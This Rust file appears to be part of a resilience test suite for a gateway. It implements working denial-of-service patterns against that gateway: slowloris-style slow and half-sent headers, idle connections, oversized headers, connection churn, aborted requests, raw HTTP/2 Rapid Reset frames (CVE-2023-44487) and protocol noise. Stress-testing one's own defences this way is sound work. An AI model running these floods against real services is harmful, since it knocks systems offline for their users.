//! Connections and heads.

use std::time::Duration;

use anyhow::{Result, ensure};
use tokio::io::AsyncWriteExt;
use tokio::time::{interval, sleep};

use crate::attack::hostile::{Attack, bearer, get};

/// Connections that one address may have.
const OF_ONE_ADDRESS: usize = 64;

pub async fn half_heads(attack: Attack) -> Result<()> {
    let head = format!("GET /v1/plans HTTP/1.1\r\nhost: solvane\r\nx-long: {}", "x".repeat(31_000));
    let client = |number: usize| attack.hold(number / OF_ONE_ADDRESS, head.as_bytes());
    attack.clients(22 * OF_ONE_ADDRESS, client).await;
    Ok(())
}

pub async fn long_heads(attack: Attack) -> Result<()> {
    let head = format!("GET /v1/plans HTTP/1.1\r\nhost: solvane\r\nx-long: {}", "x".repeat(400_000));
    let client = async |number: usize| {
        while attack.is_on() {
            attack.send(number / 16, head.as_bytes()).await;
            sleep(Duration::from_millis(500)).await;
        }
    };
    attack.clients(8 * 16, client).await;
    Ok(())
}

/// One address has 64 connections, and the others are closed.
pub async fn one_address(attack: Attack) -> Result<()> {
    attack.clients(800, |_| attack.hold(0, b"GET /v1/plans HTTP/1.1\r\n")).await;
    let open = attack.counted("open");
    ensure!(open <= OF_ONE_ADDRESS as u64, "one address has {open} connections");
    Ok(())
}

pub async fn silence(attack: Attack) -> Result<()> {
    attack.clients(22 * OF_ONE_ADDRESS, |number| attack.hold(number / OF_ONE_ADDRESS, b"")).await;
    Ok(())
}

pub async fn slow_heads(attack: Attack) -> Result<()> {
    let client = async |number: usize| {
        let Some(stream) = attack.open(number / 32).await else { return };
        let (reader, mut writer) = stream.into_split();
        for byte in b"GET /v1/plans HTTP/1.1\r\nx-slow: ".iter().chain(std::iter::repeat(&b'x')) {
            sleep(Duration::from_millis(200)).await;
            if writer.write_all(&[*byte]).await.is_err() {
                break;
            }
            if !attack.is_on() {
                return attack.count("open");
            }
        }
        drop(reader);
        attack.count("ended");
    };
    attack.clients(8 * 32, client).await;
    Ok(())
}

pub async fn many_headers(attack: Attack) -> Result<()> {
    let head = get("/v1/plans", &"x-header: value\r\n".repeat(150));
    attack.clients(8, |number| attack.flood(number, 20, |_| head.clone())).await;
    Ok(())
}

pub async fn churn(attack: Attack) -> Result<()> {
    let client = async |number: usize| {
        let mut ticks = interval(Duration::from_millis(20));
        while attack.is_on() {
            ticks.tick().await;
            let Some(mut stream) = attack.open(number).await else { continue };
            drop(stream.write_all(b"GET /v1/plans HTT").await);
            drop(stream.set_zero_linger());
            attack.count("reset by client");
        }
    };
    attack.clients(8, client).await;
    Ok(())
}

pub async fn aborted(attack: Attack) -> Result<()> {
    let client = async |number: usize| {
        let head =
            get("/v1/transactions/statement?from=2026-01-01&to=2026-06-30&format=pdf", &bearer(attack.account(number)));
        let mut ticks = interval(Duration::from_millis(50));
        while attack.is_on() {
            ticks.tick().await;
            let Some(mut stream) = attack.open(number).await else { continue };
            drop(stream.write_all(&head).await);
            sleep(Duration::from_millis(2)).await;
            drop(stream.set_zero_linger());
            attack.count("reset by client");
        }
    };
    attack.clients(6, client).await;
    Ok(())
}

/// CVE-2023-44487: streams opened and reset at once. The gateway speaks HTTP/1.1 alone.
pub async fn rapid_reset(attack: Attack) -> Result<()> {
    let mut frames = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0".to_vec();
    for stream in (1..200_u32).step_by(2) {
        // HEADERS of GET / over http, then RST_STREAM with CANCEL.
        frames.extend(b"\0\0\x03\x01\x05");
        frames.extend(stream.to_be_bytes());
        frames.extend(b"\x82\x84\x86\0\0\x04\x03\0");
        frames.extend(stream.to_be_bytes());
        frames.extend(8_u32.to_be_bytes());
    }
    let client = async |number: usize| {
        while attack.is_on() {
            attack.send(number, &frames).await;
            sleep(Duration::from_millis(50)).await;
        }
    };
    attack.clients(4, client).await;
    Ok(())
}

pub async fn noise(attack: Attack) -> Result<()> {
    let texts =
        [b"\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03".as_slice(), b"\0\r\n\r\n", b"SSH-2.0-x\r\n\r\n", &[0xff; 2_000]];
    let client = async |number: usize| {
        while attack.is_on() {
            attack.send(number, &[texts[number % texts.len()], b"\r\n\r\n"].concat()).await;
            sleep(Duration::from_millis(50)).await;
        }
    };
    attack.clients(8, client).await;
    Ok(())
}
